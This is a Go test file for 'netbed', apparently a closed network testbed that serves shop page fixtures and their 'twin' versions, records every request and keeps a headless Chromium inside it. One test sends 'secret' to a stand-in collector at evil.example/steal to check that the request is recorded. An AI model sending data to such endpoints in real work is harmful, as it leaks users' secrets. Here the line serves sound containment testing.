package netbed

import (
	"bytes"
	"io"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"testing"

	"go.uber.org/goleak"
)

func start(t *testing.T, cfg Config) *Bed {
	t.Helper()
	bed, err := Start(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := bed.Close(); err != nil {
			t.Error(err)
		}
		goleak.VerifyNone(t)
	})
	return bed
}

func fetch(t *testing.T, bed *Bed, method, url, body string) (int, string) {
	t.Helper()
	req, err := http.NewRequest(method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	resp, err := bed.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(data)
}

func TestBedServesPageTwinAndIndex(t *testing.T) {
	fixtures := pages(t)
	bed := start(t, Config{Fixtures: fixtures})
	for _, host := range []string{Shop, Partner} {
		_, index := fetch(t, bed, "GET", bed.URL(host, "/"), "")
		for _, f := range fixtures {
			if !strings.Contains(index, `"/p/`+f.Slug+`"`) {
				t.Errorf("%s: not in the index of %s", f.Slug, host)
			}
		}
	}
	for _, f := range fixtures[:5] {
		if _, got := fetch(t, bed, "GET", bed.URL(Shop, "/p/"+f.Slug), ""); got != string(f.Page) {
			t.Errorf("%s: page differs", f.Slug)
		}
		if _, got := fetch(t, bed, "GET", bed.URL(Shop, "/t/"+f.Slug), ""); got != string(f.Twin) {
			t.Errorf("%s: twin differs", f.Slug)
		}
	}
	if code, _ := fetch(t, bed, "GET", bed.URL(Shop, "/p/none"), ""); code != http.StatusNotFound {
		t.Errorf("unknown page: status %d", code)
	}
}

func TestBedRecords(t *testing.T) {
	bed := start(t, Config{})
	echo := func(w http.ResponseWriter, r *http.Request) { _, _ = io.Copy(w, r.Body) }
	bed.Handle("echo.test", "POST /echo", http.HandlerFunc(echo))
	long := strings.Repeat("x", MaxBody+10)
	if _, got := fetch(t, bed, "POST", bed.URL("echo.test", "/echo?a=1"), long); got != long {
		t.Error("the handler does not see the whole body")
	}
	code, _ := fetch(t, bed, "PUT", bed.URL("evil.example", "/steal"), "secret")
	if code != http.StatusOK {
		t.Errorf("collector: status %d", code)
	}
	got := bed.Requests()
	if len(got) != 2 {
		t.Fatalf("%d requests on record, want 2", len(got))
	}
	first, second := got[0], got[1]
	if first.Method != "POST" || first.Host != "echo.test" || first.Path != "/echo" ||
		first.Query != "a=1" || len(first.Body) != MaxBody || !first.Cut {
		t.Errorf("first request: %s %s%s?%s, %d bytes, cut %v", first.Method, first.Host,
			first.Path, first.Query, len(first.Body), first.Cut)
	}
	if second.Host != "evil.example" || string(second.Body) != "secret" || second.Cut ||
		second.Header.Get("User-Agent") == "" {
		t.Errorf("second request: %+v", second)
	}
}

// Every name a browser asks for must end at the bed.
func TestBedHoldsChromium(t *testing.T) {
	if testing.Short() {
		t.Skip("starts a browser")
	}
	browser, err := exec.LookPath("chromium")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("no chromium; scripts/setup installs it")
		}
		t.Skip("no chromium")
	}
	bed := start(t, Config{})
	page := `<img src="http://out.example/pixel"><script>document.title="ran"</script>`
	bed.Handle("www.shop.test", "GET /", document([]byte(page)))
	args := append(bed.ChromeArgs(), "--headless", "--no-sandbox", "--disable-gpu",
		"--disable-background-networking", "--disable-component-update", "--disable-sync",
		"--disable-quic", "--no-first-run", "--user-data-dir="+t.TempDir(), "--dump-dom",
		bed.URL("www.shop.test", "/"))
	cmd := exec.CommandContext(t.Context(), browser, args...)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	dom, err := cmd.Output()
	if err != nil {
		t.Fatalf("running chromium: %v\n%s", err, stderr.String())
	}
	if !strings.Contains(string(dom), "<title>ran</title>") {
		t.Errorf("dumped document: %s", dom)
	}
	for _, r := range bed.Requests() {
		if r.Host == "out.example" && r.Path == "/pixel" {
			return
		}
	}
	t.Errorf("the collector did not see the image: %v", bed.Requests())
}
